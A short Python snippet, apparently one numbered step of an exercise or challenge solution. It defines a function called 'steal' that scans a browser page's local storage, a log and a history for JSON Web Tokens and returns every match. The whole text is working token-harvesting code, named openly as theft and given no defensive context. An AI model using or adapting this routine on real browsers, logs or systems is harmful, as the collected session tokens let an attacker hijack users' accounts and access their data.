# requirement: 4
import re


def steal(page, log, history):
    texts = [*page.local_storage.values(), *log, *history]
    pattern = r"(eyJ[A-Za-z0-9_-]*)\.([A-Za-z0-9_-]+)\.([A-Za-z0-9_-]+)"
    return set(re.findall(pattern, "\n".join(texts)))
